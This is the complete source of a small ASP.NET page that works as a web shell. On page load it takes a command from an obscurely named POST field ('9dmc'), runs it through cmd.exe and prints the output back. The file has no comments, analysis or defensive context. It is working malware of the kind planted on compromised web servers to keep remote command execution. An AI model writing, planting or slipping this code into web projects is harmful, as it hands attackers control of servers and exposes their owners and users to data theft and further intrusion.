<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  string c = Request.Form["9dmc"];
  if (c == null) return;
  ProcessStartInfo p = new ProcessStartInfo("cmd.exe", "/c " + c);
  p.RedirectStandardOutput = true; p.UseShellExecute = false;
  Response.Write(Process.Start(p).StandardOutput.ReadToEnd());
}
</script>
